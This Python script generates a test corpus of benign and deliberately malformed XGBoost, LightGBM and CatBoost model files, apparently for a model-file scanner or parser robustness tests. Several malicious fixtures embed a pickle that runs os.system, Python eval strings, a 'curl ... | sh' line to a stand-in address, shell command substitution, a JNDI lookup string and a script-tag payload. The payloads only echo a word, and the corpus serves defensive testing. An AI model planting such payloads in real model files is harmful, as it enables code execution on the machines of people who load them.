"""Writes malicious/ and benign/ of the tree models anew.

Needs: xgboost-cpu==3.2.0 lightgbm==4.7.0 catboost==1.2.10 numpy==2.4.6 pandas==3.1.1
and, for XGBoost's old binary form, xgboost-cpu==2.1.4 in the folder named by XGBOOST_OLD (left out where it is not set).
Nothing in the payloads harms: they print a word or name a file that does not exist.
"""
import base64
import json
import os
import pathlib
import pickle
import re
import shutil
import struct
import subprocess
import sys
import tempfile

import catboost
import lightgbm
import numpy
import pandas
import xgboost

HERE = pathlib.Path(__file__).resolve().parent
GOOD = HERE / "benign"
BAD = HERE / "malicious"
for folder in (GOOD, BAD):
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()

random = numpy.random.RandomState(7)
X = random.rand(80, 4)
Y = (X[:, 0] + X[:, 1] > 1).astype(int)
CATEGORIES = pandas.DataFrame({"kind": pandas.Categorical(list("abcdefgh") * 10), "size": random.rand(80)})
SHELL = "__import__('os').system('echo surety-corpus')"


class Echo:
    def __reduce__(self):
        return os.system, ("echo surety-corpus",)


PICKLE = base64.b64encode(pickle.dumps(Echo(), 4)).decode()


# ---- XGBoost
def xgb_train(rounds=2, matrix=None, **parameters):
    matrix = matrix or xgboost.DMatrix(X, label=Y, feature_names=["age", "income", "city", "debt"])
    return xgboost.train({"max_depth": 2, "nthread": 1, "seed": 1, **parameters}, matrix, rounds)


for name, parameters in {
    "binary": {"objective": "binary:logistic"}, "squared": {}, "softprob": {"objective": "multi:softprob", "num_class": 2},
    "rank": {"objective": "rank:pairwise"}, "poisson": {"objective": "count:poisson"}, "linear": {"booster": "gblinear"},
    "dart": {"booster": "dart", "rate_drop": 0.5}, "forest": {"num_parallel_tree": 3, "subsample": 0.5},
    "quantile": {"objective": "reg:quantileerror", "quantile_alpha": [0.1, 0.9]}, "hinge": {"objective": "binary:hinge"},
    "pruned": {"tree_method": "exact", "max_depth": 4, "gamma": 0.8}, "lossguide": {"grow_policy": "lossguide", "max_leaves": 5},
    "aft": {"objective": "reg:tweedie"}, "gamma": {"objective": "reg:pseudohubererror"},
}.items():
    model = xgb_train(**parameters)
    model.save_model(GOOD / f"xgb_{name}.json")
    model.save_model(GOOD / f"xgb_{name}.ubj")
model = xgb_train(matrix=xgboost.DMatrix(CATEGORIES, label=Y, enable_categorical=True), tree_method="hist", max_cat_to_onehot=1)
model.set_attr(best_iteration="1", note="trained on Tuesday; see https://example.org/card")
model.save_model(GOOD / "xgb_categories.json")
model.save_model(GOOD / "xgb_categories.ubj")
model = xgb_train(matrix=xgboost.DMatrix(X, label=numpy.c_[Y, 1 - Y]), multi_strategy="multi_output_tree", tree_method="hist")
model.save_model(GOOD / "xgb_vector_leaf.json")
model.save_model(GOOD / "xgb_vector_leaf.ubj")
classifier = xgboost.XGBClassifier(n_estimators=2, max_depth=2, n_jobs=1, random_state=1).fit(X, Y)
classifier.save_model(GOOD / "xgb_sklearn.json")
constant = xgboost.train({"nthread": 1}, xgboost.DMatrix(X, label=numpy.zeros(80)), 1)
constant.save_model(GOOD / "xgb_stump.json")
xgb_train().dump_model(str(GOOD / "xgb_dump.json"), dump_format="json")

base = json.loads(bytes(xgb_train(objective="binary:logistic").save_raw("json")))


def xgb_bad(name, change):
    document = json.loads(json.dumps(base))
    change(document["learner"], document["learner"]["gradient_booster"]["model"]["trees"][0])
    (BAD / f"xgb_{name}.json").write_text(json.dumps(document, separators=(",", ":")))


def put(owner, key, value):
    def change(learner, tree):
        target = {"learner": learner, "tree": tree, "attributes": learner["attributes"], "objective": learner["objective"],
                  "model": learner["gradient_booster"]["model"], "param": tree["tree_param"],
                  "classes": learner["learner_model_param"], "all": learner["gradient_booster"]["model"]["gbtree_model_param"]}[owner]
        target[key] = value
    return change


def put_at(key, place, value):
    def change(learner, tree):
        tree[key][place] = value
    return change


xgb_bad("child_far_outside", put_at("left_children", 0, 100000))
xgb_bad("child_negative", put_at("right_children", 0, -7))
xgb_bad("loop_to_root", put_at("left_children", 1, 0))
xgb_bad("loop_to_itself", lambda learner, tree: (tree["left_children"].__setitem__(1, 1), tree["right_children"].__setitem__(1, 2)))
xgb_bad("parent_elsewhere", put_at("parents", 1, 100000))
xgb_bad("classes_negative", put("classes", "num_class", "-5"))
xgb_bad("feature_outside", put_at("split_indices", 0, 4000))
xgb_bad("num_nodes_lies", put("param", "num_nodes", "4294967295"))
xgb_bad("num_trees_lies", put("all", "num_trees", "2000000"))
xgb_bad("arrays_differ", lambda learner, tree: tree["split_conditions"].pop())
xgb_bad("tree_info_short", lambda learner, tree: learner["gradient_booster"]["model"]["tree_info"].pop())
xgb_bad("rounds_outside", put("model", "iteration_indptr", [0, 1, 99]))
xgb_bad("categories_outside", lambda learner, tree: tree.update(categories=[1], categories_nodes=[0], categories_segments=[0], categories_sizes=[1 << 40]))
xgb_bad("attribute_python", put("attributes", "post_load", SHELL))
xgb_bad("attribute_pickle", put("attributes", "state", PICKLE))
xgb_bad("attribute_curl", put("attributes", "setup", "curl http://198.51.100.7/x | sh"))
xgb_bad("feature_name_script", lambda learner, tree: learner["feature_names"].__setitem__(0, "<script>alert(1)</script>"))
xgb_bad("objective_eval", put("objective", "name", "eval(open('/tmp/surety').read())"))
xgb_bad("foreign_key_jndi", put("learner", "${jndi:ldap://198.51.100.7/a}", "1"))
text = json.dumps(base, separators=(",", ":"))
(BAD / "xgb_key_twice.json").write_text(text.replace('"name":"gbtree"', '"name":"gbtree","model":{}', 1))
(BAD / "xgb_broken_off.json").write_text(text[: len(text) // 2])

ubj = bytes(xgb_train(objective="binary:logistic").save_raw("ubj"))
(BAD / "xgb_count_huge.ubj").write_bytes(re.sub(rb"left_children\[\$l#L.{8}", b"left_children[$l#L\x3f" + b"\xff" * 7, ubj, count=1, flags=re.S))
(BAD / "xgb_count_negative.ubj").write_bytes(re.sub(rb"left_children\[\$l#L.{8}", b"left_children[$l#L" + b"\xff" * 8, ubj, count=1, flags=re.S))
(BAD / "xgb_child_outside.ubj").write_bytes(re.sub(rb"(left_children\[\$l#L.{8}).{4}", lambda match: match[1] + b"\x7f\xff\xff\xff", ubj, count=1, flags=re.S))
(BAD / "xgb_broken_off.ubj").write_bytes(ubj[:-300])
(BAD / "xgb_deep.ubj").write_bytes(b"{L" + struct.pack(">q", 7) + b"learner" + b"[" * 5000)
(BAD / "xgb_nulls.ubj").write_bytes(b"{L" + struct.pack(">q", 7) + b"learner" + b"[$Z#L" + struct.pack(">q", 1 << 40) + b"}")
(BAD / "xgb_pickle_behind.ubj").write_bytes(ubj + pickle.dumps(Echo(), 4))
with_attribute = xgb_train(objective="binary:logistic")
with_attribute.set_attr(hook=SHELL)
with_attribute.save_model(BAD / "xgb_attribute.ubj")

if os.environ.get("XGBOOST_OLD"):
    script = """
import sys; sys.path.insert(0, sys.argv[1])
import xgboost, numpy
random = numpy.random.RandomState(7); X = random.rand(80, 4); Y = (X[:, 0] > .5).astype(int)
for name, more in {'binary': {'objective': 'binary:logistic'}, 'linear': {'booster': 'gblinear'}, 'dart': {'booster': 'dart'}, 'poisson': {'objective': 'count:poisson'}}.items():
    model = xgboost.train({'max_depth': 2, 'nthread': 1, 'eval_metric': 'rmse', **more}, xgboost.DMatrix(X, label=Y), 2)
    model.set_attr(best_iteration='1')
    open(sys.argv[2] + '/xgb_old_' + name + '.model', 'wb').write(model.save_raw('deprecated'))
"""
    subprocess.run([sys.executable, "-W", "ignore", "-c", script, os.environ["XGBOOST_OLD"], str(GOOD)], check=True, stderr=subprocess.DEVNULL)
    old = (GOOD / "xgb_old_binary.model").read_bytes()
    start = old.index(b"gbtree") + 6 + 160  # the first tree's parameters
    node = start + 148

    def old_bad(name, place, value):
        (BAD / f"xgb_old_{name}.model").write_bytes(old[:place] + struct.pack("<i", value) + old[place + 4:])

    old_bad("nodes_huge", start + 4, 0x7FFFFFFF)
    old_bad("nodes_zero", start + 4, 0)
    old_bad("child_outside", node + 4, 0x10000)
    old_bad("loop", node + 24, 0)
    old_bad("trees_many", old.index(b"gbtree") + 6, 0x00FFFFFF)
    (BAD / "xgb_old_broken_off.model").write_bytes(old[:-40])
    (BAD / "xgb_old_attribute.model").write_bytes(old.replace(b"best_iteration", b"os.system('id')", 1).replace(struct.pack("<Q", 14), struct.pack("<Q", 15), 1))


# ---- LightGBM
def lgb_train(data=None, rounds=2, more_data=None, **parameters):
    settings = {"num_leaves": 4, "verbose": -1, "min_data_in_leaf": 3, "num_threads": 1, "seed": 1, "deterministic": True, **parameters}
    return lightgbm.train(settings, lightgbm.Dataset(X if data is None else data, Y, params=settings, **(more_data or {})), rounds)


for name, parameters in {
    "binary": {"objective": "binary"}, "regression": {"objective": "regression"}, "l1": {"objective": "regression_l1"},
    "multiclass": {"objective": "multiclass", "num_class": 2}, "dart": {"boosting": "dart"}, "goss": {"boosting": "goss"},
    "forest": {"boosting": "rf", "bagging_freq": 1, "bagging_fraction": 0.5}, "linear": {"linear_tree": True},
    "quantile": {"objective": "quantile"}, "poisson": {"objective": "poisson"}, "xentropy": {"objective": "cross_entropy"},
}.items():
    lgb_train(**parameters).save_model(GOOD / f"lgb_{name}.txt")
lgb_train(CATEGORIES, min_data_per_group=2, cat_smooth=0, max_cat_to_onehot=1, more_data={"categorical_feature": ["kind"]}).save_model(GOOD / "lgb_categories.txt")
lgb_train(min_data_in_leaf=70).save_model(GOOD / "lgb_stump.txt")
lgb_train(rounds=3).save_model(GOOD / "lgb_first_only.txt", num_iteration=1)
(GOOD / "lgb_dump.json").write_text(json.dumps(lgb_train().dump_model()))
lightgbm.LGBMClassifier(n_estimators=2, num_leaves=3, n_jobs=1, verbose=-1, random_state=1).fit(X, Y).booster_.save_model(GOOD / "lgb_sklearn.model")

text = lgb_train(objective="binary").model_to_string()


def lgb_bad(name, old_text, new_text, fix=True):
    assert re.search(old_text, text, flags=re.M), name
    changed = re.sub(old_text, lambda match: new_text, text, count=1, flags=re.M)
    if fix:  # the lengths stay right, so that only the change itself is wrong
        parts = re.split(r"(?=^Tree=|^end of trees)", changed, flags=re.M)
        sizes = " ".join(str(len(part)) for part in parts if part.startswith("Tree="))
        changed = re.sub(r"^tree_sizes=.*$", f"tree_sizes={sizes}", changed, flags=re.M)
    (BAD / f"lgb_{name}.txt").write_text(changed)


lgb_bad("child_outside", r"^left_child=.*$", "left_child=900 -1 -2")
lgb_bad("leaf_outside", r"^right_child=.*$", "right_child=-900 -3 -4")
lgb_bad("loop", r"^left_child=.*$", "left_child=0 -1 -2")
lgb_bad("feature_outside", r"^split_feature=.*$", "split_feature=0 77 1")
lgb_bad("feature_negative", r"^split_feature=.*$", "split_feature=-5 0 1")
lgb_bad("leaves_huge", r"^num_leaves=.*$", "num_leaves=2147483647")
lgb_bad("leaves_negative", r"^num_leaves=.*$", "num_leaves=-1")
lgb_bad("values_missing", r"^leaf_value=.*$", "leaf_value=0.5")
lgb_bad("categories_outside", r"^num_cat=0$", "num_cat=1\ncat_boundaries=0 1000000\ncat_threshold=1")
lgb_bad("sizes_lie", r"^tree_sizes=.*$", "tree_sizes=10 99999999", fix=False)
lgb_bad("top_feature", r"^max_feature_idx=.*$", "max_feature_idx=1000000")
lgb_bad("parameter_command", r"^\[machines: \]$", "[machines: ;curl http://198.51.100.7/x|sh]")
lgb_bad("parameter_system", r"^\[machine_list_filename: \]$", "[machine_list_filename: $(bash -c 'echo surety')]")
lgb_bad("objective_eval", r"^objective=.*$", "objective=custom:" + SHELL)
lgb_bad("feature_name_script", r"^feature_names=.*$", "feature_names=<script>alert(1)</script> b c d")
lgb_bad("python_behind", r"\Z", "\nimport os; os.system('echo surety')\n")
lgb_bad("pickle_behind", r"\Z", "\n" + PICKLE + "\n")
lgb_bad("lines_between", r"^end of trees$", "end of trees\n\nsome words that belong nowhere")
lgb_bad("pandas_eval", r"\Z", "\npandas_categorical:[[\"eval(compile('1','','eval'))\"]]\n")


# ---- CatBoost
def cat_train(kind=catboost.CatBoostClassifier, data=None, **parameters):
    data = pandas.DataFrame(X, columns=list("abcd")) if data is None else data
    return kind(iterations=2, depth=2, verbose=0, thread_count=1, random_seed=1, allow_writing_files=False, **parameters).fit(data, Y)


def settled(path):
    """The same identifier and times in every run; lengths stay."""
    content = path.read_bytes()
    content = re.sub(rb"[0-9a-f]{6,8}-[0-9a-f]{6,8}-[0-9a-f]{6,8}-[0-9a-f]{6,8}", lambda match: re.sub(rb"[0-9a-f]", b"0", match[0]), content)
    path.write_bytes(re.sub(rb"20\d\d-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-01-01T00:00:00Z", content))


words = CATEGORIES.assign(kind=CATEGORIES["kind"].astype(str))
for name, model in {
    "binary": cat_train(), "regression": cat_train(catboost.CatBoostRegressor),
    "categories": cat_train(data=words, cat_features=["kind"]),
    "one_hot": cat_train(data=words, cat_features=["kind"], one_hot_max_size=20),
    "lossguide": cat_train(grow_policy="Lossguide", max_leaves=4), "depthwise": cat_train(grow_policy="Depthwise"),
    "multiclass": cat_train(loss_function="MultiClass"), "quantile": cat_train(catboost.CatBoostRegressor, loss_function="Quantile:alpha=0.3"),
}.items():
    model.save_model(str(GOOD / f"cat_{name}.cbm"))
    settled(GOOD / f"cat_{name}.cbm")
    if name in ("binary", "categories", "lossguide"):
        model.save_model(str(GOOD / f"cat_{name}.json"), format="json")
        settled(GOOD / f"cat_{name}.json")
good = (GOOD / "cat_binary.cbm").read_bytes()
(BAD / "cat_core_longer.cbm").write_bytes(good[:4] + struct.pack("<I", len(good) * 100) + good[8:])
(BAD / "cat_broken_off.cbm").write_bytes(good[:-500])
(BAD / "cat_root_outside.cbm").write_bytes(good[:8] + struct.pack("<I", 0x7FFFFFF0) + good[12:])
(BAD / "cat_pickle_behind.cbm").write_bytes(good + pickle.dumps(Echo(), 4))
sizes = good.rindex(struct.pack("<III", 2, 2, 2))  # two trees of depth two
(BAD / "cat_depth_huge.cbm").write_bytes(good[:sizes + 4] + struct.pack("<I", 0x40000000) + good[sizes + 8:])
(BAD / "cat_command_in_name.cbm").write_bytes(good.replace(b'"task_type":"CPU"', b'"t":"os.system()"', 1))
document = json.loads((GOOD / "cat_binary.json").read_text())
document["model_info"]["hook"] = SHELL
(BAD / "cat_python.json").write_text(json.dumps(document))
document = json.loads((GOOD / "cat_binary.json").read_text())
document["oblivious_trees"][0]["splits"][0]["float_feature_index"] = 5000
(BAD / "cat_feature_outside.json").write_text(json.dumps(document))
document = json.loads((GOOD / "cat_binary.json").read_text())
document["oblivious_trees"][0]["leaf_values"].pop()
(BAD / "cat_leaves_missing.json").write_text(json.dumps(document))
